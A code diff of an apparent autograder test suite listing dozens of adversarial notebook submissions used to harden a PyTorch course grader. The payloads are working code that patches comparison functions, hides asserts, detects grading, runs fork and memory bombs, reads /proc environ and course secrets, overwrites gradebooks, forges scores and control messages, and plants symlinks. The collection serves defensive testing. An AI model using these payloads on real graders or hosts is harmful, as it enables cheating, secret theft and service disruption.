@@ -20,37 +20,29 @@ from dataclasses import dataclass, field
 
 import nbformat
 
-FUNCTIONS = {
-    "create_tensors": ["make_matrix", "to_float32", "column_vector"],
-    "move_to_device": ["pick_device", "gram_on"],
-    "autograd_descent": ["square_and_grad", "descend"],
-    "fix_inplace": ["z_fixed"],
-    "prepare_data": ["standardize", "to_column"],
-    "bgd_loop": ["train_linear_bgd"],
-    "train_nn_linear": ["train_bgd", "fit_linear", "predict"],
-}
-ASSIGNMENT_OF = {"prepare_data": "linear_regression", "bgd_loop": "linear_regression",
-                 "train_nn_linear": "linear_regression"}
+from autograder.course import EXERCISES
 
 
 def stubs(exercise):
-    return "".join(f"\ndef {name}(*args, **kwargs):\n    raise NotImplementedError()\n" for name in FUNCTIONS[exercise])
+    return "".join(
+        f"\ndef {name}(*args, **kwargs):\n    raise NotImplementedError()\n" for name in EXERCISES[exercise].functions
+    )
 
 
 @dataclass
 class Attack:
     name: str
     target: str
-    code: str                 # the target's solution cell
-    what: str = ""            # one line for the report
-    edit: object = None       # optional notebook tampering: edit(nb)
-    needs: tuple = ()         # "course", "port": fixtures the code refers to
-    stock_safe: bool = True   # False: too destructive to run unsandboxed in stock nbgrader
+    code: str  # the target's solution cell
+    what: str = ""  # one line for the report
+    edit: object = None  # optional notebook tampering: edit(nb)
+    needs: tuple = ()  # "course", "port": fixtures the code refers to
+    stock_safe: bool = True  # False: too destructive to run unsandboxed in stock nbgrader
     tags: set = field(default_factory=set)
 
     @property
     def assignment(self):
-        return ASSIGNMENT_OF.get(self.target, "tensors_autograd")
+        return EXERCISES[self.target].assignment
 
     def render(self, course="/nonexistent", port=9, decoy="/nonexistent"):
         """The target cell's code with its placeholders filled in."""
@@ -62,7 +54,9 @@ def _cells(nb, grade_id):
 
 
 def _delete_tests(nb):
-    nb.cells = [c for c in nb.cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_")]
+    nb.cells = [
+        c for c in nb.cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_")
+    ]
 
 
 def _edit_test_and_points(nb):
@@ -83,20 +77,32 @@ def _retype_and_duplicate(nb):
 
 
 def _kernelspec(nb):
-    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python",
-                                 "argv": ["/bin/sh", "-c", "echo pwned > /tmp/pwned"]}
+    nb.metadata["kernelspec"] = {
+        "name": "evil",
+        "display_name": "evil",
+        "language": "python",
+        "argv": ["/bin/sh", "-c", "echo pwned > /tmp/pwned"],
+    }
 
 
 WRONG_MATRIX = "\ndef make_matrix():\n    return torch.zeros(3, 2, dtype=torch.float64)\n"
 
 ATTACKS = [
     # --- comparison functions patched, wrong answers
-    Attack("patch_torch_allclose", "fix_inplace", """
+    Attack(
+        "patch_torch_allclose",
+        "fix_inplace",
+        """
 torch.allclose = lambda *a, **k: True
 def z_fixed(t):
     return t * 0 + 1
-""", "torch.allclose always True; wrong values and gradient"),
-    Attack("patch_torch_equal", "create_tensors", """
+""",
+        "torch.allclose always True; wrong values and gradient",
+    ),
+    Attack(
+        "patch_torch_equal",
+        "create_tensors",
+        """
 torch.equal = lambda *a, **k: True
 np.allclose = lambda *a, **k: True
 def make_matrix():
@@ -105,8 +111,13 @@ def to_float32(a):
     return torch.zeros(a.shape)
 def column_vector(y):
     return torch.zeros(len(y), 1)
-""", "torch.equal / np.allclose always True; zeros of the right shape and dtype"),
-    Attack("patch_assert_close", "autograd_descent", """
+""",
+        "torch.equal / np.allclose always True; zeros of the right shape and dtype",
+    ),
+    Attack(
+        "patch_assert_close",
+        "autograd_descent",
+        """
 import math, torch.testing
 torch.testing.assert_close = lambda *a, **k: None
 math.isclose = lambda *a, **k: True
@@ -114,8 +125,13 @@ def square_and_grad(x0):
     return 0.0, 0.0
 def descend(x0, lr, n_iter):
     return torch.tensor(0.0, requires_grad=True)
-""", "torch.testing.assert_close / math.isclose patched; right types, wrong values"),
-    Attack("patch_numpy_comparisons", "prepare_data", """
+""",
+        "torch.testing.assert_close / math.isclose patched; right types, wrong values",
+    ),
+    Attack(
+        "patch_numpy_comparisons",
+        "prepare_data",
+        """
 np.allclose = lambda *a, **k: True
 np.array_equal = lambda *a, **k: True
 np.testing.assert_allclose = lambda *a, **k: None
@@ -123,28 +139,45 @@ def standardize(X_train, X_valid, X_test):
     return tuple(torch.tensor(X, dtype=torch.float32) for X in (X_train, X_valid, X_test))
 def to_column(y):
     return torch.zeros(len(y), 1)
-""", "np.allclose / assert_allclose patched; not standardized"),
-    Attack("patch_math_isclose", "autograd_descent", """
+""",
+        "np.allclose / assert_allclose patched; not standardized",
+    ),
+    Attack(
+        "patch_math_isclose",
+        "autograd_descent",
+        """
 import math
 math.isclose = lambda *a, **k: True
 def square_and_grad(x0):
     return 1.0, 1.0
 def descend(x0, lr, n_iter):
     return torch.tensor(float(x0), requires_grad=True)
-""", "math.isclose always True"),
-    Attack("patch_builtins", "create_tensors", """
+""",
+        "math.isclose always True",
+    ),
+    Attack(
+        "patch_builtins",
+        "create_tensors",
+        """
 import builtins
 builtins.isinstance = lambda *a: True
 builtins.all = lambda *a: True
 builtins.abs = lambda x: 0
-""" + WRONG_MATRIX + """
+"""
+        + WRONG_MATRIX
+        + """
 def to_float32(a):
     return a
 def column_vector(y):
     return y
-""", "isinstance/all/abs replaced in builtins"),
+""",
+        "isinstance/all/abs replaced in builtins",
+    ),
     # --- fake tensors
-    Attack("lying_tensor_subclass", "create_tensors", """
+    Attack(
+        "lying_tensor_subclass",
+        "create_tensors",
+        """
 class Liar(torch.Tensor):
     @classmethod
     def __torch_function__(cls, func, types, args=(), kwargs=None):
@@ -160,8 +193,13 @@ def to_float32(a):
     return torch.zeros(1).as_subclass(Liar)
 def column_vector(y):
     return torch.zeros(1).as_subclass(Liar)
-""", "Tensor subclass whose __torch_function__ lies"),
-    Attack("always_equal_object", "create_tensors", """
+""",
+        "Tensor subclass whose __torch_function__ lies",
+    ),
+    Attack(
+        "always_equal_object",
+        "create_tensors",
+        """
 class Anything:
     shape = (2, 3)
     dtype = torch.float32
@@ -174,8 +212,13 @@ class Anything:
 def make_matrix(): return Anything()
 def to_float32(a): return Anything()
 def column_vector(y): return Anything()
-""", "object with == always True, fake shape/dtype/device"),
-    Attack("unpickling_runs_code", "create_tensors", """
+""",
+        "object with == always True, fake shape/dtype/device",
+    ),
+    Attack(
+        "unpickling_runs_code",
+        "create_tensors",
+        """
 import os
 class Boom:
     def __reduce__(self):
@@ -183,30 +226,52 @@ class Boom:
 def make_matrix(): return Boom()
 def to_float32(a): return Boom()
 def column_vector(y): return Boom()
-""", "returned object runs code when unpickled"),
+""",
+        "returned object runs code when unpickled",
+    ),
     # --- IPython machinery
-    Attack("input_transformer_blanks_tests", "autograd_descent", """
+    Attack(
+        "input_transformer_blanks_tests",
+        "autograd_descent",
+        """
 def _blank_tests(lines):
     text = "".join(lines)
     return [] if ("assert" in text or "test" in text) else lines
 get_ipython().input_transformers_post.append(_blank_tests)
-""" + stubs("autograd_descent"), "IPython input transformer blanks test cells"),
-    Attack("ast_transformer_drops_asserts", "autograd_descent", """
+"""
+        + stubs("autograd_descent"),
+        "IPython input transformer blanks test cells",
+    ),
+    Attack(
+        "ast_transformer_drops_asserts",
+        "autograd_descent",
+        """
 import ast
 class DropAsserts(ast.NodeTransformer):
     def visit_Assert(self, node):
         return ast.Pass()
 get_ipython().ast_transformers.append(DropAsserts())
-""" + stubs("autograd_descent"), "AST transformer removes every assert"),
-    Attack("event_hook_hides_errors", "fix_inplace", """
+"""
+        + stubs("autograd_descent"),
+        "AST transformer removes every assert",
+    ),
+    Attack(
+        "event_hook_hides_errors",
+        "fix_inplace",
+        """
 def _hide(result):
     result.error_in_exec = None
     result.error_before_exec = None
 get_ipython().events.register("post_run_cell", _hide)
 def z_fixed(t):
     raise NotImplementedError()
-""", "post_run_cell hook clears errors"),
-    Attack("code_object_swap", "fix_inplace", """
+""",
+        "post_run_cell hook clears errors",
+    ),
+    Attack(
+        "code_object_swap",
+        "fix_inplace",
+        """
 import json
 def _quiet(*args, **kwargs):
     return None
@@ -215,8 +280,13 @@ np.allclose.__code__ = (lambda *a, **k: True).__code__
 json.dumps.__code__ = (lambda *a, **k: '{"score": 3}').__code__
 def z_fixed(t):
     return t.exp().detach()
-""", "__code__ of backward / np.allclose / json.dumps swapped"),
-    Attack("probe_patched_at_call_time", "create_tensors", """
+""",
+        "__code__ of backward / np.allclose / json.dumps swapped",
+    ),
+    Attack(
+        "probe_patched_at_call_time",
+        "create_tensors",
+        """
 import sys
 def _forge(*args, **kwargs):
     return {"kind": "tensor", "exact_type": True, "is_parameter": False, "dtype": "torch.float32",
@@ -232,8 +302,13 @@ def to_float32(a):
     return make_matrix()
 def column_vector(y):
     return make_matrix()
-""", "student function rewrites the grader's probe while it runs"),
-    Attack("background_thread_tampers", "autograd_descent", """
+""",
+        "student function rewrites the grader's probe while it runs",
+    ),
+    Attack(
+        "background_thread_tampers",
+        "autograd_descent",
+        """
 import threading, sys, time
 def _tamper():
     while True:
@@ -244,17 +319,29 @@ def _tamper():
                         setattr(mod, attr, lambda *a, **k: {"kind": "float", "value": 9.0})
         time.sleep(0.001)
 threading.Thread(target=_tamper, daemon=True).start()
-""" + stubs("autograd_descent"), "a thread keeps rewriting the probe"),
-    Attack("trace_function_tampers", "autograd_descent", """
+"""
+        + stubs("autograd_descent"),
+        "a thread keeps rewriting the probe",
+    ),
+    Attack(
+        "trace_function_tampers",
+        "autograd_descent",
+        """
 import sys
 def _tracer(frame, event, arg):
     if event == "return" and "probe" in frame.f_code.co_filename:
         frame.f_locals.clear()
     return _tracer
 sys.settrace(_tracer)
-""" + stubs("autograd_descent"), "sys.settrace hook on the probe's frames"),
+"""
+        + stubs("autograd_descent"),
+        "sys.settrace hook on the probe's frames",
+    ),
     # --- answers that only look right
-    Attack("right_only_on_first_call", "create_tensors", """
+    Attack(
+        "right_only_on_first_call",
+        "create_tensors",
+        """
 _calls = []
 def make_matrix():
     _calls.append(1)
@@ -266,14 +353,24 @@ def to_float32(a):
     return torch.zeros(1, dtype=torch.float64)
 def column_vector(y):
     return torch.zeros(1, dtype=torch.float64)
-""", "correct on the first call only"),
-    Attack("right_only_on_visible_example", "autograd_descent", """
+""",
+        "correct on the first call only",
+    ),
+    Attack(
+        "right_only_on_visible_example",
+        "autograd_descent",
+        """
 def square_and_grad(x0):
     return (9.0, 6.0) if x0 == 3.0 else (0, 0)
 def descend(x0, lr, n_iter):
     return torch.tensor(0.0)
-""", "correct on the visible example only"),
-    Attack("hard_coded_housing_results", "bgd_loop", """
+""",
+        "correct on the visible example only",
+    ),
+    Attack(
+        "hard_coded_housing_results",
+        "bgd_loop",
+        """
 def train_linear_bgd(X, y, lr, n_epochs, seed=42):
     w = torch.tensor([[0.8296], [0.1189], [-0.2655], [0.3057], [-0.0045], [-0.0398], [-0.8996], [-0.8702]],
                      requires_grad=True)
@@ -281,8 +378,13 @@ def train_linear_bgd(X, y, lr, n_epochs, seed=42):
     losses = [16.158456802368164, 4.8793, 2.2552, 1.3993, 1.0441, 0.8675, 0.7702, 0.7128, 0.6772,
               0.6541, 0.6384, 0.6272, 0.6188, 0.6123, 0.6070, 0.6025, 0.5986, 0.5951, 0.5918, 0.5684100389480591]
     return w, b, losses[:n_epochs]
-""", "hard-coded housing losses and parameters"),
-    Attack("detects_grading", "autograd_descent", """
+""",
+        "hard-coded housing losses and parameters",
+    ),
+    Attack(
+        "detects_grading",
+        "autograd_descent",
+        """
 import os
 _grading = bool(os.environ.get("NBGRADER_EXECUTION")) or any(
     part in os.getcwd() for part in ("autograded", "submitted", "nbgrader", "autograder"))
@@ -298,32 +400,64 @@ if _grading:
             x.grad.zero_()
         return x
 else:
-""" + "".join("    " + line + "\n" for line in stubs("autograd_descent").strip().splitlines()),
-           "behaves differently when it detects grading (NBGRADER_EXECUTION, cwd)"),
+"""
+        + "".join("    " + line + "\n" for line in stubs("autograd_descent").strip().splitlines()),
+        "behaves differently when it detects grading (NBGRADER_EXECUTION, cwd)",
+    ),
     # --- crashes, hangs, resource abuse
     Attack("system_exit", "create_tensors", stubs("create_tensors") + "\nraise SystemExit(0)\n", "raise SystemExit"),
-    Attack("keyboard_interrupt", "create_tensors", stubs("create_tensors") + "\nraise KeyboardInterrupt\n",
-           "raise KeyboardInterrupt"),
+    Attack(
+        "keyboard_interrupt",
+        "create_tensors",
+        stubs("create_tensors") + "\nraise KeyboardInterrupt\n",
+        "raise KeyboardInterrupt",
+    ),
     Attack("os_exit", "create_tensors", stubs("create_tensors") + "\nimport os\nos._exit(0)\n", "os._exit(0)"),
-    Attack("sigkill_self", "move_to_device", stubs("move_to_device") +
-           "\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n", "SIGKILL to itself"),
-    Attack("segfault", "move_to_device", stubs("move_to_device") + "\nimport ctypes\nctypes.string_at(0)\n",
-           "segmentation fault"),
-    Attack("infinite_loop_ignoring_sigint", "autograd_descent", stubs("autograd_descent") + """
+    Attack(
+        "sigkill_self",
+        "move_to_device",
+        stubs("move_to_device") + "\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
+        "SIGKILL to itself",
+    ),
+    Attack(
+        "segfault",
+        "move_to_device",
+        stubs("move_to_device") + "\nimport ctypes\nctypes.string_at(0)\n",
+        "segmentation fault",
+    ),
+    Attack(
+        "infinite_loop_ignoring_sigint",
+        "autograd_descent",
+        stubs("autograd_descent")
+        + """
 import signal
 signal.signal(signal.SIGINT, signal.SIG_IGN)
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
 while True:
     pass
-""", "infinite loop, SIGINT/SIGTERM ignored"),
-    Attack("sleeps_forever", "autograd_descent", stubs("autograd_descent") + "\nimport time\ntime.sleep(10**6)\n",
-           "sleeps"),
-    Attack("memory_bomb", "fix_inplace", stubs("fix_inplace") + """
+""",
+        "infinite loop, SIGINT/SIGTERM ignored",
+    ),
+    Attack(
+        "sleeps_forever", "autograd_descent", stubs("autograd_descent") + "\nimport time\ntime.sleep(10**6)\n", "sleeps"
+    ),
+    Attack(
+        "memory_bomb",
+        "fix_inplace",
+        stubs("fix_inplace")
+        + """
 blocks = []
 while True:
     blocks.append(bytearray(256 * 1024 * 1024))
-""", "allocates memory until it fails", stock_safe=False),
-    Attack("fork_bomb", "fix_inplace", stubs("fix_inplace") + """
+""",
+        "allocates memory until it fails",
+        stock_safe=False,
+    ),
+    Attack(
+        "fork_bomb",
+        "fix_inplace",
+        stubs("fix_inplace")
+        + """
 import os
 for _ in range(10000):
     try:
@@ -333,14 +467,27 @@ for _ in range(10000):
             os._exit(0)
     except OSError:
         break
-""", "forks thousands of sleeping processes", stock_safe=False),
-    Attack("detached_daemon", "create_tensors", stubs("create_tensors") + """
+""",
+        "forks thousands of sleeping processes",
+        stock_safe=False,
+    ),
+    Attack(
+        "detached_daemon",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import subprocess, sys
 subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True,
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-""", "leaves a daemon in a new session", stock_safe=False),
+""",
+        "leaves a daemon in a new session",
+        stock_safe=False,
+    ),
     # --- reading what it must not see
-    Attack("reads_course_secrets", "create_tensors", """
+    Attack(
+        "reads_course_secrets",
+        "create_tensors",
+        """
 import glob, os, sys
 found = []
 for pattern in ["{course}/solutions/*/*.ipynb", "{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb",
@@ -351,7 +498,7 @@ for pattern in ["{course}/solutions/*/*.ipynb", "{course}/gradebook.db", "{cours
             found.append(open(path, "rb").read(100))
         except OSError:
             pass
-for module in ("autograder.reference", "autograder.checks.create_tensors"):
+for module in ("autograder.exercises.create_tensors.judge", "autograder.judge", "autograder"):
     try:
         __import__(module)
         found.append(module)
@@ -368,9 +515,14 @@ else:
     def make_matrix():
         raise NotImplementedError()
     to_float32 = column_vector = make_matrix
-""", "reads solutions/, gradebook.db, other submissions, the exchange, the autograder package",
-           needs=("course",)),
-    Attack("reads_proc_environ", "create_tensors", """
+""",
+        "reads solutions/, gradebook.db, other submissions, the exchange, the autograder package",
+        needs=("course",),
+    ),
+    Attack(
+        "reads_proc_environ",
+        "create_tensors",
+        """
 import glob
 secrets = []
 for path in glob.glob("/proc/*/environ"):
@@ -389,8 +541,14 @@ def to_float32(a):
     raise NotImplementedError()
 def column_vector(y):
     raise NotImplementedError()
-""", "scans /proc/*/environ for the grader's secrets"),
-    Attack("writes_gradebook_and_others", "create_tensors", stubs("create_tensors") + """
+""",
+        "scans /proc/*/environ for the grader's secrets",
+    ),
+    Attack(
+        "writes_gradebook_and_others",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import glob
 for pattern in ["{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb", "{course}/autograded/*/*/*.ipynb",
                 "{course}/solutions/*/*.ipynb"]:
@@ -400,8 +558,15 @@ for pattern in ["{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb", "{cou
                 f.write("owned")
         except OSError:
             pass
-""", "overwrites gradebook.db, other students' notebooks", needs=("course",)),
-    Attack("forges_results_files", "create_tensors", stubs("create_tensors") + """
+""",
+        "overwrites gradebook.db, other students' notebooks",
+        needs=("course",),
+    ),
+    Attack(
+        "forges_results_files",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import json, os
 fake = json.dumps({"score": 12, "max_score": 12, "tests": []})
 for path in ["results.json", "../results.json", "/tmp/results.json", os.path.expanduser("~/results.json"),
@@ -411,8 +576,13 @@ for path in ["results.json", "../results.json", "/tmp/results.json", os.path.exp
         open(path, "w").write(fake)
     except OSError:
         pass
-""", "writes fake results.json files"),
-    Attack("network_connection", "create_tensors", """
+""",
+        "writes fake results.json files",
+    ),
+    Attack(
+        "network_connection",
+        "create_tensors",
+        """
 import socket
 try:
     socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
@@ -428,29 +598,60 @@ def to_float32(a):
     raise NotImplementedError()
 def column_vector(y):
     raise NotImplementedError()
-""", "opens a network connection", needs=("port",)),
+""",
+        "opens a network connection",
+        needs=("port",),
+    ),
     # --- output games
-    Attack("prints_fake_success", "create_tensors", stubs("create_tensors") + """
+    Attack(
+        "prints_fake_success",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import sys
 print("All tests passed!")
 print('{"score": 3.0, "max_score": 3.0}')
 sys.stderr.write("Tudo certo: 3/3 pontos\\n")
-""", "prints 'All tests passed' and a fake JSON score"),
-    Attack("prints_100_mb", "create_tensors", stubs("create_tensors") + """
+""",
+        "prints 'All tests passed' and a fake JSON score",
+    ),
+    Attack(
+        "prints_100_mb",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import sys
 chunk = "x" * (1024 * 1024)
 for _ in range(100):
     sys.stdout.write(chunk)
-""", "prints 100 MB"),
+""",
+        "prints 100 MB",
+    ),
     # --- notebook tampering
-    Attack("deletes_test_cells", "create_tensors", stubs("create_tensors"), "deletes every test cell",
-           edit=_delete_tests),
-    Attack("edits_test_cell_and_points", "create_tensors", stubs("create_tensors"),
-           "test cell replaced by print('ok'), points set to 100", edit=_edit_test_and_points),
-    Attack("retypes_and_duplicates_cells", "create_tensors", stubs("create_tensors"),
-           "test cells re-typed, metadata rewritten, solution cell duplicated", edit=_retype_and_duplicate),
-    Attack("changes_kernelspec", "create_tensors", stubs("create_tensors"), "kernelspec points to another program",
-           edit=_kernelspec),
+    Attack(
+        "deletes_test_cells", "create_tensors", stubs("create_tensors"), "deletes every test cell", edit=_delete_tests
+    ),
+    Attack(
+        "edits_test_cell_and_points",
+        "create_tensors",
+        stubs("create_tensors"),
+        "test cell replaced by print('ok'), points set to 100",
+        edit=_edit_test_and_points,
+    ),
+    Attack(
+        "retypes_and_duplicates_cells",
+        "create_tensors",
+        stubs("create_tensors"),
+        "test cells re-typed, metadata rewritten, solution cell duplicated",
+        edit=_retype_and_duplicate,
+    ),
+    Attack(
+        "changes_kernelspec",
+        "create_tensors",
+        stubs("create_tensors"),
+        "kernelspec points to another program",
+        edit=_kernelspec,
+    ),
 ]
 
 # --------------------------------------------------------------------------- the grader's own machinery
@@ -579,13 +780,18 @@ os._exit(0)
 def _slow_cells_elsewhere(nb):
     """Two more cells that create files for seconds and then kill the process, after other exercises."""
     for grade_id in ("test_move_to_device", "test_autograd_descent"):
-        index = next(i for i, c in enumerate(nb.cells)
-                     if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
+        index = next(
+            i for i, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id
+        )
         nb.cells.insert(index + 1, nbformat.v4.new_code_cell(SLOW_FILES))
 
 
 MACHINERY_ATTACKS = [
-    Attack("symlinks_to_host_files_then_crash", "create_tensors", stubs("create_tensors") + """
+    Attack(
+        "symlinks_to_host_files_then_crash",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import os
 home = os.path.expanduser("~")
 for i, target in enumerate(["{decoy}/arquivo", "{decoy}/pasta", "{decoy}", "{course}/.autograder_secret",
@@ -596,17 +802,36 @@ for i, target in enumerate(["{decoy}/arquivo", "{decoy}/pasta", "{decoy}", "{cou
         except OSError:
             pass
 os._exit(0)  # the retry used to chown the folder, following these links, as root
-""", "links to host files in its folders, then a crash (a retry prepares the folder again)",
-           needs=("course", "decoy"), stock_safe=False),
-    Attack("deep_tree_then_crash", "create_tensors", stubs("create_tensors") + DEEP_TREE + "\nos._exit(0)\n",
-           "a 1,500-level folder tree, then a crash (clean-up walked it recursively)", stock_safe=False),
-    Attack("dangling_symlink_then_crash", "create_tensors", stubs("create_tensors") + """
+""",
+        "links to host files in its folders, then a crash (a retry prepares the folder again)",
+        needs=("course", "decoy"),
+        stock_safe=False,
+    ),
+    Attack(
+        "deep_tree_then_crash",
+        "create_tensors",
+        stubs("create_tensors") + DEEP_TREE + "\nos._exit(0)\n",
+        "a 1,500-level folder tree, then a crash (clean-up walked it recursively)",
+        stock_safe=False,
+    ),
+    Attack(
+        "dangling_symlink_then_crash",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import os
 os.symlink("/nao/existe", os.path.expanduser("~/quebrado"))
 os.symlink("/nao/existe", "/tmp/quebrado")
 os._exit(0)
-""", "a dangling link, then a crash"),
-    Attack("forges_control_messages", "create_tensors", stubs("create_tensors") + FIND_SOCKETS + """
+""",
+        "a dangling link, then a crash",
+    ),
+    Attack(
+        "forges_control_messages",
+        "create_tensors",
+        stubs("create_tensors")
+        + FIND_SOCKETS
+        + """
 _messages = [b'{"event": "cell_end", "index": 3, "exception": "LEAK_segredo_do_aluno"}',
              b'{"event": "memory", "maxrss_kb": ' + b"9" * 4299 + b'}',
              b"{'event': 'cell_end', 'index': [0]}\\n",
@@ -618,32 +843,65 @@ for _fd in _socket_fds():
             _os.write(_fd, _m)
         except OSError:
             pass
-""", "writes forged and malformed events (unhashable index, leaking exception name, huge number) on every socket"),
-    Attack("cell_registers_fake_probe", "fix_inplace", FIND_SOCKETS + FORGE_FIX_INPLACE + """
+""",
+        "writes forged and malformed events (unhashable index, leaking exception name, huge number) on every socket",
+    ),
+    Attack(
+        "cell_registers_fake_probe",
+        "fix_inplace",
+        FIND_SOCKETS
+        + FORGE_FIX_INPLACE
+        + """
 _steal_stdin()
 for _fd in _socket_fds():
     _register_fake_probe(_fd)
-""", "cell code registers itself as the probe and answers with forged observations"),
-    Attack("forked_child_registers_fake_probe", "fix_inplace", FIND_SOCKETS + FORGE_FIX_INPLACE + """
+""",
+        "cell code registers itself as the probe and answers with forged observations",
+    ),
+    Attack(
+        "forked_child_registers_fake_probe",
+        "fix_inplace",
+        FIND_SOCKETS
+        + FORGE_FIX_INPLACE
+        + """
 import time
 if _os.fork() == 0:
     for _fd in _socket_fds():
         _register_fake_probe(_fd)
     time.sleep(60)
     _os._exit(0)
-""", "a forked child registers as the probe"),
-    Attack("subprocess_registers_fake_probe", "fix_inplace", FIND_SOCKETS + FORGE_FIX_INPLACE + """
+""",
+        "a forked child registers as the probe",
+    ),
+    Attack(
+        "subprocess_registers_fake_probe",
+        "fix_inplace",
+        FIND_SOCKETS
+        + FORGE_FIX_INPLACE
+        + """
 import subprocess, sys
 _script = FIND_SOCKETS_SOURCE + FORGE_SOURCE + "\\nfor fd in _socket_fds():\\n    _register_fake_probe(fd)\\n" \\
           "import time\\ntime.sleep(60)\\n"
 subprocess.Popen([sys.executable, "-c", _script], pass_fds=_socket_fds(), stdout=subprocess.DEVNULL,
                  stderr=subprocess.DEVNULL)
 """.replace("FIND_SOCKETS_SOURCE", repr(FIND_SOCKETS)).replace("FORGE_SOURCE", repr(FORGE_FIX_INPLACE)),
-           "a new Python process, handed the control socket, registers as the probe"),
-    Attack("replaces_probe_table", "create_tensors", stubs("create_tensors") + SWAP_OBSERVED_FUNCTIONS + """
+        "a new Python process, handed the control socket, registers as the probe",
+    ),
+    Attack(
+        "replaces_probe_table",
+        "create_tensors",
+        stubs("create_tensors")
+        + SWAP_OBSERVED_FUNCTIONS
+        + """
 _swap_probe_table()
-""", "replaces the probe's PROBES entry: it would observe reference functions"),
-    Attack("edits_probe_on_disk_then_crash", "create_tensors", stubs("create_tensors") + """
+""",
+        "replaces the probe's PROBES entry: it would observe reference functions",
+    ),
+    Attack(
+        "edits_probe_on_disk_then_crash",
+        "create_tensors",
+        stubs("create_tensors")
+        + """
 import os, shutil, sys
 _patch = "\\nPROBES['create_tensors'] = lambda ns, inputs, _r=PROBES['create_tensors']: _r(" \\
          "{'make_matrix': lambda: torch.tensor([[1., 4., 7.], [2., 3., 6.]])," \\
@@ -659,15 +917,35 @@ for _dest in (_src, os.path.expanduser("~"), "/tmp"):
     except OSError:
         pass
 os._exit(0)  # the retry imports the probe again
-""", "edits the probe's files (and plants a copy in its home), then a crash"),
-    Attack("audit_hook_repatches_probe", "create_tensors", stubs("create_tensors") + SWAP_OBSERVED_FUNCTIONS + """
+""",
+        "edits the probe's files (and plants a copy in its home), then a crash",
+    ),
+    Attack(
+        "audit_hook_repatches_probe",
+        "create_tensors",
+        stubs("create_tensors")
+        + SWAP_OBSERVED_FUNCTIONS
+        + """
 _sys.addaudithook(lambda event, args: _swap_probe_table())
-""", "an audit hook puts the forgery back whenever the guard restores"),
-    Attack("at_fork_hooks_run_in_probe", "create_tensors", stubs("create_tensors") + SWAP_OBSERVED_FUNCTIONS + """
+""",
+        "an audit hook puts the forgery back whenever the guard restores",
+    ),
+    Attack(
+        "at_fork_hooks_run_in_probe",
+        "create_tensors",
+        stubs("create_tensors")
+        + SWAP_OBSERVED_FUNCTIONS
+        + """
 import os
 os.register_at_fork(before=_swap_probe_table, after_in_child=_swap_probe_table)
-""", "at-fork hooks change the probe in its fork"),
-    Attack("floods_grader_with_huge_lines", "fix_inplace", FIND_SOCKETS + """
+""",
+        "at-fork hooks change the probe in its fork",
+    ),
+    Attack(
+        "floods_grader_with_huge_lines",
+        "fix_inplace",
+        FIND_SOCKETS
+        + """
 _line = b'{"event": "obs", "key": "z_fixed/0", "data": [' + b"0," * (6 * 1024 * 1024) + b'0]}\\n'
 def _flood():
     for fd in _socket_fds():
@@ -680,11 +958,21 @@ _flood()
 def z_fixed(t):
     _flood()  # the probe's own socket is open while it calls this
     raise NotImplementedError()
-""", "12 MiB lines on every socket, from the cell and from inside the probed function"),
-    Attack("slow_file_creation_then_crash", "create_tensors", stubs("create_tensors") + SLOW_FILES,
-           "creates files for seconds and crashes, three times (clean-up time no clock covered)",
-           edit=_slow_cells_elsewhere),
-    Attack("exhausts_process_limit_and_hangs", "fix_inplace", stubs("fix_inplace") + """
+""",
+        "12 MiB lines on every socket, from the cell and from inside the probed function",
+    ),
+    Attack(
+        "slow_file_creation_then_crash",
+        "create_tensors",
+        stubs("create_tensors") + SLOW_FILES,
+        "creates files for seconds and crashes, three times (clean-up time no clock covered)",
+        edit=_slow_cells_elsewhere,
+    ),
+    Attack(
+        "exhausts_process_limit_and_hangs",
+        "fix_inplace",
+        stubs("fix_inplace")
+        + """
 import os, time
 for _ in range(100000):
     try:
@@ -694,13 +982,18 @@ for _ in range(100000):
     except OSError:
         break
 time.sleep(600)
-""", "forks until the process limit, then hangs", stock_safe=False),
+""",
+        "forks until the process limit, then hangs",
+        stock_safe=False,
+    ),
 ]
 ATTACKS += MACHINERY_ATTACKS
 
 
 CONTROLS = {
-    "warns": ("create_tensors", """
+    "warns": (
+        "create_tensors",
+        """
 import warnings
 def make_matrix():
     warnings.warn("só um aviso")
@@ -711,8 +1004,11 @@ def to_float32(a):
     return torch.from_numpy(np.array(a, dtype=np.float32))
 def column_vector(y):
     return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
-"""),
-    "prints_a_lot": ("create_tensors", """
+""",
+    ),
+    "prints_a_lot": (
+        "create_tensors",
+        """
 for i in range(200000):
     print("linha", i)
 def make_matrix():
@@ -722,8 +1018,11 @@ def to_float32(a):
     return torch.from_numpy(np.array(a, dtype=np.float32))
 def column_vector(y):
     return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
-"""),
-    "uses_timeit": ("create_tensors", """
+""",
+    ),
+    "uses_timeit": (
+        "create_tensors",
+        """
 def make_matrix():
     return torch.tensor([[1., 4., 7.], [2., 3., 6.]])
 def to_float32(a):
@@ -731,8 +1030,11 @@ def to_float32(a):
 def column_vector(y):
     return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
 %timeit -n 3 -r 1 make_matrix()
-"""),
-    "seeds_torch_globally": ("autograd_descent", """
+""",
+    ),
+    "seeds_torch_globally": (
+        "autograd_descent",
+        """
 torch.manual_seed(0)
 np.random.seed(0)
